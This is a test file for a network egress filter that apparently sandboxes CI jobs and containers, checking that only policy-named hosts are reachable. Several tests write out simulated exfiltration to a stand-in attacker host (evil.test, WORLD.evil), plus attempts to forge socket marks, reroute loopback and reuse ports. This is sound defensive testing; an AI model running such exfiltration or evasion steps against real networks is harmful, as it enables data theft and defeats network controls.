import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { realpathSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PACE } from '../pace.ts';
import { JobLab, tcp, udp } from './job-lab.ts';
import { asked, Lab, type Packet, WORLD } from './lab.ts';

const EARLY = `
import errno, socket, sys
s = socket.create_connection(('${WORLD.evil}', 9999)); s.settimeout(10)
s.sendall(b'early'); print(s.recv(9), flush=True); s.settimeout(3)
sys.stdin.readline()
try:
    for n in range(3): s.sendall(b'secret'); print('answered', s.recv(9), flush=True)
except OSError as error: print(errno.errorcode.get(error.errno, 'timeout'), flush=True)
`;
let job: JobLab;
/** Connected to the attacker before there was a filter; sends more when it is told to. */
let early: ChildProcess;
beforeAll(async () => {
  const lab = await Lab.start();
  early = spawn('ip', ['netns', 'exec', lab.job, 'python3', '-c', EARLY], { stdio: ['pipe', 'pipe', 'inherit'] });
  await once(early.stdout ?? early, 'data');
  job = await JobLab.start(
    {
      policy: `ok.test\n${WORLD.ok}:9999/udp\n${WORLD.ok}:7/udp exe=${realpathSync('/usr/bin/nc')}\n`,
      inbound: [{ protocol: 'tcp', port: 2222 }],
    },
    lab,
  );
});
afterAll(async () => {
  early?.kill();
  await job?.stop();
});

const curl = (url: string, more = ''): string =>
  `curl -sS -m ${30 * PACE} --cacert ${job.directory}/ca.crt -o /dev/null -w '%{http_code}' ${more} ${url} 2>&1`;
/** Resolves when somebody listens on the port, in the container or in the job's own namespace. */
const listening = async (port: number, container?: 'a' | 'b'): Promise<void> => {
  const namespace = container ? job.container(container) : job.lab.job;
  const socket = new RegExp(`:${port.toString(16).toUpperCase().padStart(4, '0')} 00000000:0000 0A`);
  while (!socket.test(execFileSync('ip', ['netns', 'exec', namespace, 'cat', '/proc/net/tcp'], { encoding: 'utf8' })))
    await new Promise((done) => setTimeout(done, 50));
};
/** Everything but ARP and the filter's own upstream. */
const leaked = ({ packets }: { packets: Packet[] }): Packet[] => packets.filter(({ dst }) => dst !== WORLD.dns);

describe.each([
  ['a local process', undefined],
  ['a container', 'a'],
] as const)('%s', (_, container) => {
  const where = container && { in: container };

  it('reaches what the policy names, and the line tells its step', async () => {
    const { output, log } = await job.run(curl('https://ok.test/'), { ...where, env: { GITHUB_ACTION: '__run', GITHUB_JOB: 'build' } });
    expect(output).toBe('200');
    expect(log).toContainEqual(expect.objectContaining({ type: 'dns', policy: 'allow', name: 'ok.test' }));
    expect(log).toContainEqual(
      expect.objectContaining({
        type: 'https',
        policy: 'allow',
        url: 'https://ok.test/',
        uid: container ? 0 : 65534,
        pid: expect.any(Number),
        step: 'build.__run',
      }),
    );
  });

  it('sends nothing to what it does not name: by name, by address, over UDP', async () => {
    const result = await job.run(
      [
        curl('https://evil.test/'),
        curl(`https://${WORLD.evil}/`, '-k'),
        udp(WORLD.evil, 9999),
        udp(WORLD.evil, 53),
        tcp(WORLD.evil, 53),
      ].join('\n'),
      where,
    );
    expect(leaked(result)).toEqual([]);
    expect(asked(result)).toEqual([]);
    expect(result.output).toContain('EHOSTUNREACH at once');
    for (const type of ['dns', 'https', 'udp']) expect(result.log).toContainEqual(expect.objectContaining({ type, policy: 'deny' }));
  });

  it('exchanges datagrams that the policy names', async () => {
    const result = await job.run(udp(WORLD.ok, 9999), where);
    expect(result.output).toContain('secret');
    expect(result.log).toContainEqual(expect.objectContaining({ type: 'udp', policy: 'allow', dst_ip: WORLD.ok, pid: expect.any(Number) }));
  });
});

it('a trusted process talks to whom it likes, and its questions are answered and logged', async () => {
  const result = await job.run(
    `${curl('https://evil.test/', `--cacert ${job.lab.caPath}`)}; ${udp(WORLD.evil, 9999)}; ping -c1 -W2 ${WORLD.evil}`,
    {
      trusted: true,
    },
  );
  expect(result.output).toContain('200');
  expect(result.output).toContain('secret');
  expect(asked(result)).toEqual(['evil.test']);
  expect(new Set(result.log.map(({ type, rule }) => `${type} ${rule}`))).toEqual(new Set(["dns built-in: the runner's own traffic"]));
});

it('a trusted process asks no other server than ours', async () => {
  const result = await job.run(
    'dig +short +tries=1 +timeout=2 @203.0.113.66 evil.test; dig +tcp +short +tries=1 +timeout=2 @203.0.113.66 evil.test',
    { trusted: true },
  );
  expect(result.output.trim().split('\n')).toEqual([WORLD.evil, WORLD.evil]);
});

it('a port that a process with a rule of its own used a moment ago is of no use to others', async () => {
  const allowed = await job.run(`for n in 1 2 3; do echo $n; sleep 0.1; done | nc -u -q1 -p 6000 ${WORLD.ok} 7`);
  expect(allowed.output).toBe('1\n2\n3\n');
  const other = await job.run(udp(WORLD.ok, 7, "s.bind(('', 6000))"));
  expect(other.output).toBe('EHOSTUNREACH at once\n');
  expect(leaked(other)).toEqual([]);
});

it('a process that knows the marks cannot make them', async () => {
  const script = (mark: string) =>
    udp(
      WORLD.evil,
      7,
      `import struct\ntry: s.setsockopt(socket.SOL_SOCKET, 36, struct.pack('I', ${mark}))\nexcept OSError as error: print(error)`,
    );
  const marks = [...job.host('iptables-save').matchAll(/-L -m mark --mark (0x[0-9a-f]+) -j RETURN/g)].map(([, mark]) => mark ?? '');
  expect(marks).toHaveLength(2);
  for (const mark of [...marks, '0x45460001', '0x45460002']) {
    const result = await job.run(script(mark), { root: true });
    expect(leaked(result), mark).toEqual([]);
    const told = result.log.filter(({ type, reason }) => type === 'socket' && reason?.includes('its mark'));
    expect(told.length, mark).toBe(marks.includes(mark) ? 1 : 0);
  }
});

describe('containers', () => {
  it('with the same ports are told apart, from each other and from this machine', async () => {
    const send = udp(WORLD.ok, 9999, "import os; print('pid', os.getpid()); s.bind(('', 5555))");
    const senders = await Promise.all([undefined, 'a', 'b'].map((name) => job.spawn(send, name ? { netns: job.netns(name as 'a') } : {})));
    const outputs: string[] = [];
    for (const { pid = 0 } of senders) outputs.push((await job.order({ order: 'wait', pid })).output ?? '');
    const pids = outputs.map((output) => Number(/pid (\d+)\n.*secret/s.exec(output)?.[1]));
    const log = (await job.newLines()).filter(({ type, src_port }) => type === 'udp' && src_port === 5555);
    expect(new Set(log.map(({ pid }) => pid))).toEqual(new Set(pids));
    expect(log).toHaveLength(3);
  });

  it('talk to each other and to this machine', async () => {
    const serve = (port: number) => `timeout 60 python3 -c "
import socket
s = socket.create_server(('0.0.0.0', ${port})); c = s.accept()[0]; c.sendall(c.recv(9) + b' heard')
"`;
    await job.spawn(serve(8001), { netns: job.netns('b') });
    await job.spawn(serve(8002));
    await listening(8001, 'b');
    await listening(8002);
    expect((await job.run(tcp('172.31.7.3', 8001), { in: 'a' })).output).toBe('secret heard\n');
    expect((await job.run(tcp('172.31.7.1', 8002), { in: 'a' })).output).toBe('secret heard\n');
    await job.spawn(serve(8003), { netns: job.netns('b') });
    await listening(8003, 'b');
    expect((await job.run(tcp('172.31.7.3', 8003))).output).toBe('secret heard\n');
  });

  it('reach a port that is published for one of them, by an address of this machine', async () => {
    const rule = ['-p', 'tcp', '-d', '10.77.0.2', '--dport', '8080', '-j', 'DNAT', '--to-destination', '172.31.7.3:8004'];
    job.host('iptables', '-t', 'nat', '-A', 'OUTPUT', ...rule);
    await job.spawn(
      `timeout 60 python3 -c "
import socket
s = socket.create_server(('0.0.0.0', 8004)); c = s.accept()[0]; c.sendall(b'published')
"`,
      { netns: job.netns('b') },
    );
    await listening(8004, 'b');
    expect((await job.run(tcp('10.77.0.2', 8080))).output).toBe('published\n');
    job.host('iptables', '-t', 'nat', '-D', 'OUTPUT', ...rule);
  });

  it('send nothing to a published port that leads out', async () => {
    const rule = ['-p', 'tcp', '-d', '10.77.0.2', '--dport', '8081', '-j', 'DNAT', '--to-destination', `${WORLD.evil}:9999`];
    job.host('iptables', '-t', 'nat', '-A', 'OUTPUT', ...rule);
    const result = await job.run(tcp('10.77.0.2', 8081));
    job.host('iptables', '-t', 'nat', '-D', 'OUTPUT', ...rule);
    expect(leaked(result)).toEqual([]);
  });

  it('do not reach what listens on loopback only, though route_localnet is on', async () => {
    const [, port] = /--to-ports (\d+)-/.exec(job.host('iptables-save')) ?? [];
    const result = await job.run(
      `sysctl -qw net.ipv4.conf.all.route_localnet=1; ip addr flush dev lo; ip route add 127.0.0.0/8 via 172.31.7.1 src 172.31.7.2; ${tcp('127.0.0.1', Number(port))}
ip route del 127.0.0.0/8; ip addr add 127.0.0.1/8 dev lo`,
      { in: 'a' },
    );
    expect(result.output).toContain('timeout');
    expect(result.log).toEqual([]);
  });
});

it('a connection from before the start carries nothing more', async () => {
  const before = job.lab.marks();
  early.stdin?.end('now\n');
  const [said] = await once(early.stdout ?? early, 'data');
  expect(String(said)).toMatch(/^(?:ECONNRESET|EPIPE|ENETUNREACH|EHOSTUNREACH|timeout)/);
  expect(job.lab.since(before).packets).toEqual([]);
});

it('nobody talks to the ports of the proxy by himself', async () => {
  const saved = job.host('iptables-save');
  const [, tcpPort] = /--to-ports (\d+)-/.exec(saved) ?? [];
  const [, dnsPort] = /-p udp -m udp --dport 53 -j REDIRECT --to-ports (\d+)/.exec(saved) ?? [];
  for (const options of [{}, { trusted: true }]) {
    const { output } = await job.run(`${tcp('127.0.0.1', Number(tcpPort))}; ${udp('127.0.0.1', Number(dnsPort))}`, options);
    expect(output).toBe('ECONNREFUSED\nEHOSTUNREACH at once\n');
  }
});

describe('connections from outside', () => {
  const fromOutside = (port: number, seconds: number) => {
    const script = `echo hello | timeout ${seconds} nc -q4 10.77.0.2 ${port}`;
    return spawnSync('ip', ['netns', 'exec', job.lab.world, 'sh', '-c', script], { encoding: 'utf8' }).stdout;
  };
  const listen = async (port: number) => {
    await job.spawn(`timeout 30 sh -c 'echo answer | nc -q1 -l -p ${port}'`);
    await listening(port);
  };

  it('are answered at a port that was listened on at the start', async () => {
    await listen(2222);
    expect(fromOutside(2222, 20)).toContain('answer');
  });

  it('hear nothing from others, not even that the port is open', async () => {
    await listen(2223);
    const before = job.lab.marks();
    expect(fromOutside(2223, 3)).toBe('');
    expect(job.lab.since(before).packets).toEqual([]);
  });
});

describe('IPv6', () => {
  const six = `python3 -c "
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET6, kind); s.settimeout(1); s.connect(('fd77::1', 9)); s.send(b'secret'); s.recv(9)
    except OSError as error: print(error)
"`;
  it('carries nothing of a job', async () => {
    const { packets } = await job.run(six);
    expect(packets).toEqual([]);
  });

  it('carries trusted traffic, neighbour discovery included', async () => {
    const { packets } = await job.run(six, { trusted: true });
    expect(packets.filter(({ v6, proto }) => v6 && (proto === 6 || proto === 17)).length).toBeGreaterThanOrEqual(2);
  });
});
